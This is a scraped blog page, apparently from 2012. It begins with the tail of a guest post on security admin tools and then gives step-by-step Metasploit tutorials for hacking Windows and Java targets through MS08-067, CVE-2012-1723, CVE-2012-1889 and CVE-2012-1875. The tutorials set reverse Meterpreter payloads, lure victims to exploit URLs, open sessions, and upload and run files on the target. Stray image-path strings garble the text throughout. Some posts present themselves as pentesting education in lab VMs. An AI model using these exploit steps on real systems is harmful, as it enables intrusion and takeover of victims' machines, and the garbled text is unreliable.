Telnet, older versions of PCAnyWhere and several of the web-based remote access apps that are out there all have a common issue - they’re not secure. Use SSH v2 or later for secure access to all CLI-based systems, and the most secure versions of Remote Desktop Protocol to manage Windows boxes. Using strong encryption, good passwords, lockout policies and,when possible, mutual authentication between client and host, will help to ensure no one sniffs credentials or brute-forces their way into a system. If you have two-factor authentication in your environment, ensure that every system possible uses it to furtherreduce your risk from unauthorized access.

7. A good network analyzer
Whether you like the open source WireShark, the free Microsoft tool NetMon, or one of the many other commercial network analysis tools, having a good “sniffer” is key to helping secure and analyze systems. There is simply no way that’s more effective to figure out just what is going on between networked systems than to see the traffic first hand.

8. Network tools
Whenever you are dealing with connections from foreign systems, you will find the need to check network addresses, routes and more. Having good tools like DIG, WHOIS, HOST, TCPING and others close at hand makes network evaluation a breeze.

9. Log parsing software
Securing systems means going through logs; lots of them. Web logs, access logs, system logs, security logs, SNMP logs, syslog logs – the list goes on and on. Having software that can quickly and easily parse through logs is critical. Everyone has their favorite. Some install locally like LogParser, while others run on servers like Splunk. Whichever you prefer, get a good log parser to help wade through what can be millions of entries quickly and easily so you can find events you need to check.

10. Your email client
Knowledge is power, and the best way to amass that knowledge is to stay informed. Whether you subscribe to email bulletins, security alerts, or RSS feeds, your email client can provide you the first indications that something new is out there, and also what you need to do to protect your systems from the threat. Zero day exploits, out of band patches, bestpractices and more, can all be yours if you simply join the right distribution lists and subscribe to the right lists.

These 10 system admin tools are a great start towards building your toolkit for security. Network security software plays a major role in this toolkit, which you supplement with other tools and the information you need to maintain a secure environment.

This guest post was provided by Emmanuel Carabott on behalf of GFI Software Ltd. Learn more about the importance of a secure business network by downloading the free eBook: A first aid kit for SysAdmins. All product and company names herein may be trademarks of their respective owners.
Continue   Reading>>

Wednesday, July 25, 2012

Hacking Remote Pc by Exploiting Java Applet Field Bytecode Verifier Cache Remote Code Execution

CVE-2012-1723: A vulnerability in the HotSpot bytecode verifier where an invalid optimization of GETFIELD/PUTFIELD/GETSTATIC/PUTSTATIC instructions leads to insufficient type checking. A specially-crafted class file could possibly use this flaw to bypass Java sandbox restrictions, and load additional classes in order to perform malicious operations. The vulnerability was made public by Michael ‘mihi’ Schierl.

  • Attacker Machine: Backtrack
  • Victim Machine: Windows (install JRE un-patched version  )
Step1: Launch the Metasploit console
Open the Terminal in the Attacker Machine(Backtrack).
Type "msfupdate" , this will update the metasploit with latest modules.
Now type"msfconsole" to get interaction with the Metasploit framework.

Step 2:
Type "use exploit/multi/browser/java_verifier_field_access" and follow the below commands:

msf exploit(java_verifier_field_access) > set PAYLOAD java/meterpreter/reverse_http
msfexploit(java_verifier_field_access) > set LHOST [Backtrack IP ADDRESS]
msf exploit(java_verifier_field_access) > exploit

If you don't know what i am talking about , please read my previous tutorial.

Step 3:
If you follow the above commands correctly, you will get the following result.

Copy the url and open the link in the victim machine. Once the url loaded in the victim machine, it will launch the exploit and creates a new session.

Now type "sessions", this will show the list of active sessions .

Type "sessions -i 1", this will open the connection to the session with the id '1' and bring you to Meterpreter. Meterpreter will help you to interact/control the Target.

  • POC:
  • Metasploit Module:
Continue   Reading>>

Saturday, July 14, 2012

[Metasploit Tutorial] Hacking Windows XP using IPAddress

Do you think it is possible to hack some one computer with just an ip address?! The answer is yes, if you are using unpatched(vulnerable) OS.  If you don't believe me, then read the full article.

In this article i am going to demonstrate how to hack a remote computer by exploiting the  parsing flaw in the path canonicalization code of NetAPI32.dll through the Server Service(CVE-2008-4250). Before we jump into the actual exploitation process, let me give more details about this Server Service Vulnerability.

Details about Server Service Vulnerability(MS08-067):
Microsoft Windows Server service provides support for sharing resources such as files and print services over the network.

The Server service is vulnerable to a remote code-execution vulnerability. The vulnerability is caused due to an error in netapi32.dll when processing directory traversal character sequences in path names. This can be exploited to corrupt stack memory by e.g. sending RPC requests containing specially crafted path names to the Server Service component. The 'NetprPathCanonicalize()' function in the 'netapi32.dll' file is affected.

A malicious request to vulnerable system results in complete compromise of vulnerable computers.
This vulnerability affects Windows XP, Windows 2000, Windows Server 2003, Windows Vista, and Windows Server 2008. But Attackers require authenticated access on Windows Vista and Server 2008 platforms to exploit this issue.Exploiting the MS08-067 using Metasploit:

  • VirtualBox
  • Backtrack 5
  • Target OS(XP)
Step 1:

Create Two Virtual Machine(VM) namely "Target" and "BT5".  Install the XP inside Target VM and Backtrack inside BT5. Start the Two VMs.

If you don't know how to create virtual machines , then please read this VirtualBox Manual.

Step 2: Find the IP address of Target
Open The command prompt in the Target machine(XP). Type "ipconfig" to find the IP address of the Target system.

Hackers use different method for finding the ip address of victim.  For Eg., By sending link that will get the ip  details or use Angry IP Scanner.

Step 3: Information Gathering
Now let us collect some information about the Target machine.  For this purpose , we are going to use the nmap tool.

Open The Terminal in the BT5 machine(Backtrack) and type "nmap -O".  Here is IP address of Target machine. If you look at the result, you can find the list of open ports and OS version.

Step 4: Metasploit
Now open the Terminal in the BT5 machine(Backtrack) and Type "msfconsole".

The msfconsole is the most popular interface to the Metasploit Framework. It provides an "all-in-one" centralized console and allows you efficient access to virtually all of the options available in the Metasploit Framework.

Let us use the Search command to find the exploit modules with the keyword netapi. Type "search netapi".  Now you can see the list of modules match with the netapi.

We are going to exploit MS08-067 , so type "use exploit/windows/smb/ms08_067_netapi".

Step 5: Set Payload
As usual, let use the Reverse Tcp Payload for this exploit also. Type "set payload windows/meterpreter/reverse_tcp" in the msfconsole.

Step 6: Options
Type "set LHOST".  Here is IP address of Backtrack machine.  You can find the ip address by typing 'ifconfig' command in the Terminal.

Type"set RHOST".  Here is IP address of Target machine.

Step 7: Exploiting
Ok, it is time to exploit the vulnerability, type "exploit" in the console. If the exploit is successful, you can see the following result.

Now we can control the remote computer using the meterpreter. For example, typing "screenshot" will grab the screenshot of the victim system.

Update your OS frequently.

Continue   Reading>>

Wednesday, June 20, 2012

CVE-2012-1889: Microsoft XML Core Services Vulnerability Metasploit Demo

CVE-2012-1889: Microsoft XML Core Services Vulnerability
A vulnerability in Microsoft XML Core Services 3.0, 4.0, 5.0, and 6.0 allows remote code execution if a user views a specially crafted webpage using Internet Explorer.

An attacker would have no way to force users to visit such a website. Instead, an attacker would have to convince users to visit the website, typically by getting them to click a link in an email message or Instant Messenger message that takes them to the attacker's website.

The vulnerability affects all supported releases of Microsoft Windows, and all supported editions of Microsoft Office 2003 and Microsoft Office 2007. Here you can the full list.

The vulnerability exists when MSXML attempts to access an object in memory that has not been initialized, which may corrupt memory in such a way that an attacker could execute arbitrary codein the context of the logged-on user.
I am going to demonstrate how to use Metasploit tool for testing whether your network vulnerable or not.

Open the Terminal and type "msfupdate" to get the latest metasploit modules. Once update is finished, then type "msfconsole".

Then type the following command in the console "use exploit/windows/browser/msxml_get_definition_code_exec".

Now we have to know the list of settings available for this exploit module. In order to get the list , you can type "show options" in the console.

Command: set SRVHOST
Details: Here the is the ip of Backtrack . You can get this ip by simply typing the "ifconfig" in the terminal.

Command: set lhost

Command: set URIPATH /
Details: The path in which our exploit will run.

As usual, we can use Reverse Tcp payload for this attack also. So type the following command in the Metasploit console:
set payload windows/meterpreter/reverse_tcp

Type "exploit" in the console.Once the victim loads the URL in his IE browser, you will get the following message in your metasploit console:

[*] msxml_get_definition_code_exec - Using msvcrt ROP

[*] msxml_get_definition_code_exec - - Sending html

[*] Sending stage (752128 bytes) to

[*] Meterpreter session 1 opened ( ->

Type "sessions" to list the active sessions . Type "sessions -i 1", this will open the connection to the session with the id '1' and bring you to Meterpreter.

Type "sysinfo" in the meterpreter to get the system information.
Continue   Reading>>

CVE-2012-1875 : Hacking windows using MS12-037 Internet Explorer SameID Vulnerability

Hi, Today i am going to explain how to hack the Windows system using the recent IE exploit.  This article is intend to educate PenTesters.  If you don't know what Penetration testing means, then please reads this article.  Also please read the previous articles on Pen Testing.

CVE-2012-1875 : MS12-037 Internet Explorer Same ID Vulnerability
Microsoft Internet Explorer 8 does not properly handle objects in memory, which allows remote attackers to execute arbitrary code by accessing a deleted object, aka "Same ID Property Remote Code Execution Vulnerability."

Two technologies in modern OS are used to make exploits of this sort harder: DEP (data execution prevention) and ASLR (address-space layout randomisation).

DEP is intended to prevent an application or service from executing code from a non-executable memory region. This helps prevent certain exploits that store code via a buffer overflow. (wiki)

ASLR loads software modules such as DLLs into memory at randomised locations. Moving system DLLs around makes it harder for hackers to guess where to find the library functions they need, such as URLDownloadToFile() and CreateProcess().

But DEP and ASLR don't make remote code execution attacks impossible -just trickier.In the case of CVE-2012-1875, ASLR can be bypassed by trying to force Internet Explorer to find and load an old version of the Microsoft C runtime DLL - one which was compiled before ASLR become the norm, and
therefore doesn't support it. Whenever you load a non-ASLR DLL, even into an ASLR-enabled program, you can predict where it will end up.

And DEP is bypassed using a technique known as ROP, or return-oriented programming.

Exploit for the Internet Explorer Same ID Vulnerability (CVE-2012-1875 ):

  • Target OS: XP3
  • Attacker OS : Backtrack or any PenTesting Distros
As usual , you have to create two VMs in your VirtualBox.

Preparing victim system:
Install the XP3 in one of the VM.  Change the VM's Network adapter to the Host-only-adapter. (if you don't know what i am talking about, then please use this Virtualbox manual)

Preparingthe Attacker system:
Update the Metasploit modules by entering the following command in Terminal:

Or you can download the 'ms12_037_same_id.rb' module and paste in this directory "/opt/metasploit/msf3/modules/exploits/windows/browser/"

Configuring settings for the exploit in Metasploit:
Open the Terminal and type "msfconsole" to get the Metasploit console.

Type " use exploit/windows/browser/ms12_037_same_id" in the console.

Now we have to know the list of settings available for this exploit module. In order to get the list , you can type "show options" in the console.

Command: set SRVHOST
Details: Here the is the ip of Backtrack . You can get this ip by simply typing the "ifconfig" in the terminal.

Command: set URIPATH /
Details: The path in which our exploit will run.

As usual, we can use Reverse Tcp payload for this attack also. So type the followingcommand in the Metasploit console:
set payload windows/meterpreter/reverse_tcp

Ok, let us launch the exploit.

Type "exploit" in the console.

Now the exploit is started. Our exploit is running at "".

Once the victim loads the URL in his IE browser, you will get the following message in your metasploit console:

[*] Client requesting: /[*] Using JRE ROP
[*] Sending html
[*] Sending stage (752128 bytes) to
[*] Meterpreter session 1 opened ( ->

Type "sessions" to list the active sessions . Type "sessions -i 1", this will open the connection to the session with the id '1' and bring you to Meterpreter.

Now , You can control the victim system from computer using meterpreter.

For example:

'upload /Test.exe c:\\", this command will upload the Test.exe from the root('file system' dir) folder of the BT5 to the C drive of the Target.

'execute -f C:\\Test.exe", this command will run our uploaded File in the Target.

